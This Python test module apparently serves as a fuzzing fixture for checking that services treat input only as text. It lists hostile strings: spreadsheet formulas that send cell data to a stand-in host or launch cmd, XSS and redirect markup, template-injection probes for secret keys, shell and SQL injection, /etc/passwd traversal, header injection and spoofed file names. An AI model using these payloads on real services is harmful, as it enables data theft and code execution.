"""Texts that break services which take them for anything but text; all of them written for this test.

None holds a line end or a bar but those in `BROKEN` and `SEPARATED`: some fields take those for the next item.
"""

FORMULAS = (
    "=2+3",
    "+2+3",
    "-2+3",
    "@SUM(2;3)",
    "\t=2+3",
    " =2+3",
    "＝2+3",
    "＋2+3",
    "－2+3",
    "＠SUM(2;3)",
    "\u200b=2+3",
    "\ufeff=2+3",
    '=HYPERLINK("http://stulet.example/?a="&A1;"Öppna")',
    '=WEBSERVICE("http://stulet.example/"&B2)',
    "=cmd' /C calc'!A0",
    ';=2+3;"',
    '",=2+3,"',
    "'=2+3",
    "0046 utan plus",
    "00123",
    "1E10",
    "3-4",
    "TRUE",
    "#N/A",
    "_x0041_ och _x000D_",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title></style></script><h1>alert(1)",
    "</option></select><b>fet",
    "<!-- <b>dold</b>",
    "]]><b>efter</b>",
    "<base href=//stulet.example/>",
    "<meta http-equiv=refresh content=0;url=//stulet.example>",
    "<style>*{display:none}</style>",
    "javascript:alert(1)",
    "[länk](javascript:alert(1))",
    "https://stulet.example/?a=1&b=2",
    "&lt;b&gt; &amp;amp; &#60;b&#62; &aring;",
    "<a href='x'>länk</a> <br> <p>",
    '\\";alert(1)//\\u003cb\\u003e',
)
TEMPLATES = (
    "{{7*7}}",
    "{{ config.SECRET_KEY }}",
    "{% for a in ().__class__.__base__.__subclasses__() %}{{ a }}{% endfor %}",
    "{# borta #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %d %(name)s %n",
    "{0.__class__} {} {name}",
    "{0!r:>{1}}",
    "$(touch /tmp/x) `id`",
    '&&A &P &"Arial"',
    "\\1 \\g<0> \\n",
)
QUERIES = (
    "'; DROP TABLE answers;--",
    "' OR '1'='1",
    "% _ \\ %%",
    "../../../../etc/passwd",
    "%00 %0d%0aSet-Cookie:x=1",
    '{"__proto__":{"a":1}}',
    "NULL None null undefined nan",
)
LETTERS = (
    "A\u030aA\u0308O\u0308",
    "Rapport\u202excod.exe\u202c",
    "\u2066öppen",
    "e" + "\u0301" * 40,
    "👨\u200d👩\u200d👧 🇸🇪 😀",
    "a\u00adb\u200bc\u2060d",
    "مرحبا",
    "议会",
    "Sápmi čđŋšŧž",
    "ﬁnans STRASSE Straße Iİıi",
    "103\u00a015 103\u202f15",
    "\x1b]0;titel\x07\x1b[31m",
    "a\x00b\x01c\x7fd\x85e",
    "\ufffe\uffff\U0010fffd",
    "a\u2028b\u2029c",
    "\x0b\x0c\x1c\x1d\x1e\x1f",
    "å" * 120,
)
ONE_LINE = (*MARKUP, *FORMULAS, *TEMPLATES, *QUERIES, *LETTERS)
BROKEN = ('"\n=2+3', "\n=2+3", "rad1\r\nBcc: stulet@stulet.example\r\n\r\nrad3", "\r=2+3", "- ett\n- två")
SEPARATED = ("ett | två | tre", "ett\ttvå", "=a|' /C calc'!A0")
"""Lists of choices are typed with a bar or a tab between two languages."""
